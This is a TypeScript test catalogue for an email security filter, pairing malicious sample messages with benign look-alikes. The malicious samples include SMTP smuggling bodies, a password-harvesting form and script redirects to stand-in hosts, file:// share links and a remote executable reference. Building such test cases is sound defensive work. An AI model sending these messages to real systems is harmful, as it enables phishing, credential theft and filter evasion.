import { emlFile, exe, jpeg, pdf, script, textFile } from '../files/index.ts'
import { aMail } from '../mail/index.ts'
import {
  detachedSignature,
  envelopedMail,
  mbox,
  outlookItem,
  pgpEncrypted,
  pgpLiteral,
  signedMail,
  tnef,
} from '../messages/index.ts'
import { docm, docWithMacro, docx, xlsx } from '../office/index.ts'
import { zip } from '../zip/index.ts'
import type { CatalogueEntry } from './entry.ts'
import { carrying, one, renamed } from './mails.ts'
import { partMail, rawMail } from './raw-mail.ts'

const base64 = (bytes: Uint8Array): string => Buffer.from(bytes).toString('base64').replaceAll(/.{76}/g, '$&\r\n')
const macroPart = () =>
  `Content-Type: application/msword; name="a.doc"\r\nContent-Transfer-Encoding: base64\r\n\r\n${base64(docWithMacro({ name: 'a.doc' }).bytes)}\r\n`

const parts = (subtype: string, ...inside: readonly string[]): Uint8Array =>
  rawMail([`Content-Type: multipart/${subtype}; boundary="m"`], `${inside.map((part) => `--m\r\n${part}\r\n`).join('')}--m--\r\n`)

const words = 'Content-Type: text/plain\r\n\r\nHello'
const page = 'Content-Type: text/html\r\n\r\n<p>Hello</p>'

const smuggled = (end: string): Uint8Array =>
  rawMail(
    ['Content-Type: text/plain'],
    `Hello${end}MAIL FROM:<a@other.example.net>\r\nRCPT TO:<b@midorino.example.com>\r\nDATA\r\nFrom: x@midorino.example.com\r\n\r\nHi\r\n`,
  )

export const transportEntries: readonly CatalogueEntry[] = [
  {
    id: 'A51',
    title: { ja: 'メールの中のメール', en: 'Mail in mail' },
    bad: [
      one('eml', () => carrying(emlFile(carrying(docWithMacro())))),
      one('eml called txt', () => carrying(renamed(emlFile(carrying(script('js'))), '転送.txt'))),
      one('msg', () => carrying(outlookItem({ attachments: [docm()] }))),
      one('msg in a msg', () => carrying(outlookItem({ items: [{ attachments: [zip('a.zip').with(exe())] }] }))),
      one('mbox', () => carrying(mbox([aMail(), carrying(script('hta'))]))),
      one('three letters deep', () => aMail().forwarding(aMail().forwarding(aMail().forwarding(carrying(docWithMacro()))))),
      one('piece of a message', () =>
        rawMail(['Content-Type: message/partial; id="x@a"; number=1; total=2'], 'From: a@example.com\r\n\r\nTVqQ'),
      ),
      one('body elsewhere', () =>
        rawMail(
          ['Content-Type: message/external-body; access-type=URL; URL="http://203.0.113.5/a.exe"'],
          'Content-Type: application/octet-stream\r\n\r\n',
        ),
      ),
      one('digest', () => parts('digest', `\r\nContent-Type: multipart/mixed; boundary="n"\r\n\r\n--n\r\n${macroPart()}--n--`)),
    ],
    lookAlike: [
      one('forwarded letter', () => aMail().forwarding(carrying(pdf()))),
      one('msg with a table', () => carrying(outlookItem({ body: 'ご確認ください。', attachments: [xlsx()] }))),
      one('saved letters', () => carrying(mbox([aMail(), carrying(pdf())]))),
    ],
  },
  {
    id: 'A52',
    title: { ja: 'alternative・related に隠れた添付', en: 'Attachments hidden in alternative or related' },
    bad: [
      one('third alternative', () => parts('alternative', words, page, macroPart())),
      one('behind the page in related', () => parts('related', page, macroPart())),
      one('two forks', () => parts('appledouble', 'Content-Type: application/applefile\r\n\r\nx', macroPart())),
      one('mixed in alternative', () =>
        parts(
          'alternative',
          words,
          `Content-Type: multipart/mixed; boundary="n"\r\n\r\n--n\r\n${page}\r\n--n\r\n${macroPart()}--n--`,
        ),
      ),
      one('part of a report', () =>
        parts('report', words, 'Content-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; a', macroPart()),
      ),
    ],
    lookAlike: [
      one('text and page', () => aMail().text('ご案内').html('<p>ご案内</p>').attaching(pdf())),
      one('picture in the page', () => aMail().html('<img src="cid:a">').attaching(jpeg(), { contentId: 'a' })),
      one('meeting as an alternative', () =>
        parts(
          'alternative',
          words,
          page,
          'Content-Type: text/calendar; method=REQUEST\r\n\r\nBEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:a\r\nEND:VEVENT\r\nEND:VCALENDAR',
        ),
      ),
    ],
  },
  {
    id: 'A53',
    title: { ja: 'TNEF（winmail.dat）', en: 'TNEF (winmail.dat)' },
    bad: [
      one('document with macros', () => carrying(tnef({ attachments: [docWithMacro()] }))),
      one('letter inside', () => carrying(tnef({ items: [{ attachments: [script('vbs')] }] }))),
      one('under another name', () => carrying(renamed(tnef({ attachments: [exe('a.exe')] }), 'ATT00001'))),
      one('zip with a password told inside', () =>
        carrying(tnef({ body: '解凍パスワード: 7788', attachments: [zip('a.zip').encrypted('7788').with(docm())] })),
      ),
    ],
    lookAlike: [
      one('from Exchange', () => carrying(tnef({ body: 'お世話になっております。', rtf: '{\\rtf1 x}' }))),
      one('with a table', () => carrying(tnef({ attachments: [xlsx()] }))),
    ],
  },
  {
    id: 'A54',
    title: { ja: '文字コードの細工', en: 'Character-set tricks' },
    bad: [
      one('UTF-7 page with a share', () =>
        rawMail(['Content-Type: text/html; charset=utf-7'], '+ADw-img src+AD0-"file://192.0.2.9/a.png"+AD4-'),
      ),
      one('page in UTF-16', () =>
        carrying({
          name: '通知.html',
          bytes: Buffer.concat([
            Buffer.from([0xff, 0xfe]),
            Buffer.from('<script>location.href="https://login.example.net/a"</script>', 'utf16le'),
          ]),
        }),
      ),
      one('domain of two scripts', () =>
        aMail()
          .from('総務課', 'soumu@midorinо.example.com')
          .text('ご確認ください')
          .attaching(zip('a.zip').encrypted('never-told').with(docWithMacro())),
      ),
      one('password line cut by escapes', () =>
        rawMail(
          ['Content-Type: multipart/mixed; boundary="q"'],
          `--q\r\nContent-Type: text/plain; charset=iso-2022-jp\r\n\r\npas\x1b(Bsword: 55\x1b(B77aa\r\n--q\r\nContent-Type: application/zip; name="a.zip"\r\nContent-Transfer-Encoding: base64\r\n\r\n${base64(zip('a.zip').encrypted('5577aa').with(docWithMacro()).build().bytes)}\r\n--q--\r\n`,
        ),
      ),
    ],
    lookAlike: [
      one('ISO-2022-JP', () => aMail().charset('iso-2022-jp').text('お世話になっております。ＡＢＣ会議の件です。')),
      one('Shift_JIS page', () =>
        carrying({
          name: '案内.html',
          bytes: Buffer.from('<html><head><meta charset="shift_jis"></head><body>\x88\xc4\x93\xe0</body></html>', 'latin1'),
        }),
      ),
    ],
  },
  {
    id: 'A55',
    title: { ja: 'HTML 本文', en: 'HTML body' },
    bad: [
      one('form in the mail', () =>
        aMail().html(
          '<form action="https://collect.example.net/p.php"><input type="password" name="p"><input type="submit"></form>',
        ),
      ),
      one('base elsewhere', () => aMail().html('<base href="file://192.0.2.9/share/"><a href="a.exe">資料</a>')),
      one('refresh', () =>
        aMail().html('<meta http-equiv="refresh" content="0;url=https://login.example.net/a"><p>少々お待ちください</p>'),
      ),
      one('drawing with script', () =>
        aMail()
          .html('<img src="cid:s">')
          .attaching(
            {
              name: 'a.svg',
              bytes: Buffer.from(
                '<svg xmlns="http://www.w3.org/2000/svg"><script>location="https://login.example.net"</script></svg>',
              ),
              type: 'image/svg+xml',
            },
            { contentId: 's' },
          ),
      ),
    ],
    lookAlike: [
      one('search field of a newsletter', () =>
        aMail().html(
          '<form action="https://www.partner.example.com/search"><input type="text" name="q"></form><p>院内だより</p>',
        ),
      ),
      one('base of the sender', () =>
        aMail().html('<base href="https://www.partner.example.com/"><a href="annai.html">ご案内</a>'),
      ),
    ],
  },
  {
    id: 'A56',
    title: { ja: 'S/MIME・PGP', en: 'S/MIME and PGP' },
    bad: [
      one('signed, document with macros inside', () => carrying(signedMail(carrying(docWithMacro()).build()))),
      one('signed in pieces', () => carrying(signedMail(carrying(script('js')).build(), { streamed: true }))),
      one('enveloped', () => carrying(envelopedMail())),
      one('called p7m, is a document', () => carrying(renamed(docWithMacro(), 'smime.p7m'))),
      one('PGP, encrypted', () => carrying(pgpEncrypted())),
      one('PGP, only signed', () => carrying(pgpLiteral(docWithMacro({ name: 'a.doc' })))),
    ],
    lookAlike: [
      one('signature beside', () => carrying(pdf()).attaching(detachedSignature())),
      one('signed, PDF inside', () => carrying(signedMail(carrying(pdf()).build()))),
    ],
  },
  {
    id: 'A57',
    title: { ja: '大きさ・数による回避', en: 'Evasion by size and number' },
    bad: [
      one('last of a thousand parts', () => parts('mixed', ...Array.from({ length: 1_000 }, () => words), macroPart())),
      one('behind thirty megabytes', () => carrying({ name: 'a.bin', bytes: Buffer.alloc(30 * 1024 * 1024, 7) }, docWithMacro())),
      one('sixty files, one with macros', () =>
        carrying(...Array.from({ length: 60 }, (_, at) => textFile(`${at}.txt`)), docm()),
      ),
    ],
    lookAlike: [
      one('sixty pictures', () =>
        carrying(...Array.from({ length: 60 }, (_, at) => jpeg({ name: `IMG_${at}.jpg`, bytes: 2_000, seed: at }))),
      ),
      one('twenty megabytes of pictures', () => carrying(jpeg({ bytes: 20_000_000 }))),
    ],
  },
  {
    id: 'A58',
    title: { ja: '途中の装置による書き換え', en: 'Rewritten on the way' },
    bad: [
      one('one file taken away, one left', () =>
        carrying(textFile('VirusWarning.txt', 'A virus was removed.'), docWithMacro()).header('X-Virus-Status', 'Infected'),
      ),
      one('tag of another filter before an attack', () => carrying(script('js')).subject('[SPAM] ご請求書')),
    ],
    lookAlike: [
      one('disclaimer', () =>
        aMail().text('ご連絡まで。\n-- \nこのメールはウイルスチェック済みです。').header('X-Virus-Scanned', 'clean'),
      ),
      one('tag alone', () => aMail().subject('[SPAM] 学会のご案内').text('ご案内')),
    ],
  },
  {
    id: 'A59',
    title: { ja: 'SMTP の細工', en: 'SMTP level' },
    bad: [
      one('end of LF', () => smuggled('\n.\n')),
      one('end of CR', () => smuggled('\r.\r')),
      one('end of LF and CRLF', () => smuggled('\n.\r\n')),
      one('field of a hundred thousand letters before the attachment', () =>
        Buffer.concat([Buffer.from(`X-Long: ${'a'.repeat(100_000)}\r\n`), carrying(docWithMacro()).build()]),
      ),
      one('eight-bit header and macros', () =>
        partMail(
          [
            `Content-Type: application/msword; name="${Buffer.from('請求書.doc').toString('latin1')}"`,
            'Content-Transfer-Encoding: base64',
          ],
          base64(docWithMacro().bytes),
        ),
      ),
    ],
    lookAlike: [
      one('line with a dot', () => aMail().text('以上です。\n.\nMAIL FROM というコマンドの説明です。')),
      one('long subject', () => aMail().subject('会議'.repeat(200)).attaching(docx())),
    ],
  },
]
